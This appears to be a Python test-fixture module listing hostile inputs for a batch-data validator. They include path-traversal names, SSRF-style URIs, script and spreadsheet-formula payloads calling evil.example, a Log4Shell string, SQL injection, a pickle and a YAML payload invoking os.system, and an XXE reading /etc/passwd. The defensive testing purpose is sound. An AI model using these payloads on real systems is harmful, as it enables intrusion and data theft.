"""Bodies that mean harm: what is put where, and the answer that each place documents for it."""

from __future__ import annotations

import json
from typing import Any

ITEM = {"problem": "1+1?", "solution": "It is 2."}


def uris(canary: str) -> dict[str, str]:
    """Places that a library might read when it meets them; `canary` is a server that must not be asked."""
    host = canary.removeprefix("http://")
    return {
        "file": "file:///etc/passwd",
        "http": f"{canary}/a",
        "bucket elsewhere": f"s3://bucket/key?endpoint_override={host}&scheme=http",
        "cached": f"simplecache::{canary}/b",
        "zipped": f"zip://x::{canary}/c",
        "hub": f"hf://{host}/d",
        "share": f"\\\\{host}\\e",
    }


NAMES = {
    "up": "../x",
    "up, encoded": "%2e%2e%2fx",
    "up by backslash": "..\\x",
    "absolute": "/etc/passwd",
    "device": "CON:/x",
    "four kilobytes": "n" * 4096,
    "full-width dots": "．．／x",
    "leader dots": "‥/x",
    "ends in a line": "x\n",
    "empty": "",
    "space": "a b",
    "right to left": "x\u202egnp",
}
MARKUP = {
    "script": "<script>fetch('//evil.example')</script>",
    "image": "<img src=x onerror=alert(1)>",
    "formula": '=HYPERLINK("http://evil.example")',
    "template": "{{ ''.__class__ }}{% for x in () %}",
    "log": "${jndi:ldap://evil.example/a}",
    "sql": "'; DROP TABLE batches; --",
    "format": "%s%n{0.__class__}",
    "control of 8 bits": "a\x9b31mb",  # some old texts hold such; what prints lines for people leaves it out
}
CONTROLS = {f"control {ord(char):#04x}": f"a{char}b" for char in "\x00\x01\x07\x08\x0b\x0c\x1b\x7f"}
ANSI = {"red": "\x1b[31mred", "title": "\x1b]0;x\x07", "clear": "\x1b[2J\x1b[H"}
BYTES = {
    "UTF-16": json.dumps({"items": [ITEM]}).encode("utf-16"),
    "UTF-16 without a mark": json.dumps({"items": [ITEM]}).encode("utf-16-le"),
    "UTF-32": json.dumps({"items": [ITEM]}).encode("utf-32"),
    "byte order mark": b"\xef\xbb\xbf" + json.dumps({"items": [ITEM]}).encode(),
    "overlong slash": b'{"items": [{"problem": "\xc0\xaf", "solution": "2"}]}',
    "overlong NUL": b'{"items": [{"problem": "\xc0\x80", "solution": "2"}]}',
    "surrogate in UTF-8": b'{"items": [{"problem": "\xed\xa0\x80", "solution": "2"}]}',
    "beyond Unicode": b'{"items": [{"problem": "\xf4\x90\x80\x80", "solution": "2"}]}',
    "cut character": b'{"items": [{"problem": "\xe2\x82", "solution": "2"}]}',
    "Latin-1": '{"items": [{"problem": "é", "solution": "2"}]}'.encode("latin-1"),
    "surrogates in the wrong order": rb'{"items": [{"problem": "\udc00\ud800", "solution": "2"}]}',
    "bare NUL": b'{"items": [{"problem": "\x00", "solution": "2"}]}',
    "bare line end": b'{"items": [{"problem": "a\nb", "solution": "2"}]}',
    "single quotes": b"{'items': []}",
    "comment": b'{"items": [] /* none */}',
    "comma at the end": b'{"items": [],}',
    "two documents": b'{"items": []}{"items": []}',
    "no quotes": b"{items: []}",
    "hexadecimal": b'{"seed": 0x10}',
    "leading zero": b'{"synthesis": {"seed": 007}}',
    "plus": b'{"synthesis": {"seed": +1}}',
    "minus NaN": b'{"synthesis": {"tau": -NaN}}',
    "gzip undeclared": b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\x03",
    "Parquet": b"PAR1\x00\x00PAR1",
    "pickle": b"\x80\x04\x95\x0f\x00\x00\x00\x00\x00\x00\x00\x8c\x05posix\x94\x8c\x06system\x94.",
    "XML": b'<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
    "YAML": b"!!python/object/apply:os.system ['true']",
    "a thousand objects deep": b'{"a":' * 1000 + b"1" + b"}" * 1000,
    "item names twice": b'{"items": [{"problem": "a", "problem": "b", "solution": "2"}]}',
    "setting twice": b'{"items": [], "synthesis": {"tau": 1, "tau": 0}}',
}
NUMBERS: dict[str, Any] = {
    "true": True,
    "text": "1",
    "list": [1],
    "half": 0.5,
    "object": {"$gt": 0},
    "negative": -1,
    "beyond 64 bits": 2**64,
}
# Where a text goes, and the pointer to it. Texts are kept as they are, whatever they look like; nothing reads or runs
# them. Names are matched against what is known.
TEXTS = {
    "item.problem": "/items/0/problem",
    "item.solution": "/items/0/solution",
    "item.waypoints": "/items/0/waypoints/0",
    "batch.metadata": "/metadata/a",
    "batch.run_label": "/run_label",
}
KNOWN = {
    "item.id": "/items/0/id",
    "batch.model": "/model",
    "batch.completion_window": "/completion_window",
    "batch.on_invalid_item": "/on_invalid_item",
    "synthesis.method": "/synthesis/method",
    "synthesis.grader": "/synthesis",
}
COUNTS = ("seed", "samples_per_item", "max_tokens")


def put(where: str, value: Any) -> bytes:
    """A batch that is good but for `value`."""
    kind, _, name = where.partition(".")
    item, batch = dict[str, Any](ITEM), dict[str, Any]()
    shaped = {"waypoints": [value], "metadata": {"a": value}}.get(name, value)
    if kind == "item":
        item[name] = shaped
    else:
        batch = {name: shaped} if kind == "batch" else {kind: {name: value}}
    return json.dumps({"items": [item], **batch}).encode()


# What makes one item unusable: the value that takes its place, and the code of its fault.
POISONED: dict[str, tuple[Any, str]] = {
    "no object": (3, "model_type"),
    "no problem": ({"solution": "2."}, "missing"),
    "no solution": ({"problem": "x?"}, "missing"),
    "blank problem": ({"problem": " \n", "solution": "2."}, "value_error"),
    "blank solution": ({"problem": "x?", "solution": "\u200b"}, "value_error"),
    "number for a text": ({"problem": 5, "solution": "2."}, "string_type"),
    "unknown field": ({"problem": "x?", "solution": "2.", "note": 1}, "extra_forbidden"),
    "path for an id": ({"problem": "x?", "solution": "2.", "id": "../x"}, "string_pattern_mismatch"),
    "id of another": ({"problem": "x?", "solution": "2.", "id": "i0"}, "duplicate_id"),
    "the same as another": ({"problem": "0+1?", "solution": "It is 1.", "id": "twin"}, "duplicate_item"),
    "control character": ({"problem": "x\x00?", "solution": "2."}, "value_error"),
    "problem too long": ({"problem": "x" * 65_537, "solution": "2."}, "value_error"),
    "solution too long": ({"problem": "x?", "solution": "x" * 524_289}, "value_error"),
    "metadata too large": ({"problem": "x?", "solution": "2.", "metadata": {"a": "x" * 65_537}}, "metadata_too_large"),
}
